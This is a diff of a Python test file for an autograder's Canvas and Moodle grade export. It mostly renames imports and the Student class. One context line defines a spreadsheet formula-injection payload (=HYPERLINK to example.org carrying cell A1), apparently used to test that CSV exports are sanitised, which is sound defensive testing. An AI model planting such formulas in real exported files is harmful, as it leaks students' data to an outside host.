@@ -13,9 +13,9 @@ from nbgrader.apps import ExportApp
 from autograder.core.assignment import Assignment
 from autograder.core.errors import ExportRefused
 from autograder.report.lms.canvas import Canvas
-from autograder.report.lms.cells import identifier, text, write
-from autograder.report.lms.marks import Mark, PartMark, Sheet, Student, Table
+from autograder.report.lms.csv_cells import identifier, text, write
 from autograder.report.lms.moodle import Moodle
+from autograder.report.lms.sheets import LmsStudent, Mark, PartMark, Sheet, Table
 
 EXPORTS = "autograder.nbgrader_adapter.exports"
 EVIL = '=HYPERLINK("http://example.org?"&A1)'
@@ -164,7 +164,10 @@ def test_a_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
         write(tmp_path / "none" / "grades.csv", Table((("a",),)))
 
 
-TWINS = (Student("a", lms_user_id="7", email="x@y.z"), Student("b", lms_user_id="7", email="x@y.z"))
+TWINS = (
+    LmsStudent("a", lms_user_id="7", email="x@y.z"),
+    LmsStudent("b", lms_user_id="7", email="x@y.z"),
+)
 SHEET = Sheet("attention", {"p": 1.0}, {one.id: Mark({"p": PartMark(1.0)}) for one in TWINS})
 
 
@@ -178,5 +181,5 @@ def test_two_students_with_one_identifier_are_refused() -> None:
 
 def test_a_number_followed_by_letters_is_no_canvas_number() -> None:
     """Canvas would read "12ab" as the number of the student 12."""
-    table = Canvas().table([Student("a", lms_user_id="12ab")], [SHEET])
+    table = Canvas().table([LmsStudent("a", lms_user_id="12ab")], [SHEET])
     assert table.rows[2][:4] == ("a", "", "12ab", "a")
